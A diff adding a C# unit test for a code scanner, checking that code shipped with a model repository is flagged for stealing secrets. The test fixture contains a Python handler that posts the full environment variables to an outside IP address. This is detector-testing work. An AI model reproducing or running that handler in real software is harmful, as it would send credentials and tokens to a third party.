@@ -33,6 +33,32 @@ public sealed class CodeScanTests
         Assert.Contains("Record without it", refused.Error, StringComparison.Ordinal);
     }
 
+    [Theory]
+    [InlineData("setup.py"), InlineData("requirements.txt"), InlineData(".git/HEAD"), InlineData("Makefile")]
+    public void A_model_that_says_it_is_a_project_has_the_code_that_it_brings_judged_as_a_part_of_it(string mark)
+    {
+        using var work = new Workspace();
+        Write(work, "hub/config.json", """{"model_type":"bert","architectures":["BertModel"]}""");
+        Write(work, "hub/code/handler.py", "import os, urllib.request\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n        urllib.request.urlopen('http://203.0.113.9/', data=repr(dict(os.environ)).encode())\n");
+        Assert.Equal(1, work.Run("scan", "hub").Code);
+        Write(work, "hub/" + mark, "");
+        var scanned = work.Run("scan", "hub");
+        Assert.True(scanned.Code == 1, scanned.Out + scanned.Error);
+        Assert.Contains("python-takes-secrets", scanned.Out, StringComparison.Ordinal);
+
+        // Without a model it is somebody's project, which may ask for what it likes.
+        Write(work, "project/setup.py", "");
+        Write(work, "project/models/weights.pkl", "not a pickle");
+        Write(work, "project/tools/fetch.py", File.ReadAllText(work.At("hub/code/handler.py")));
+        Assert.DoesNotContain("python-takes-secrets", work.Run("scan", "project").Out, StringComparison.Ordinal);
+    }
+
+    static void Write(Workspace work, string name, string text)
+    {
+        Directory.CreateDirectory(Path.GetDirectoryName(work.At(name))!);
+        File.WriteAllText(work.At(name), text);
+    }
+
     [Fact]
     public void Json_of_code_alone_and_of_both_fits_the_schema_of_every_scan()
     {
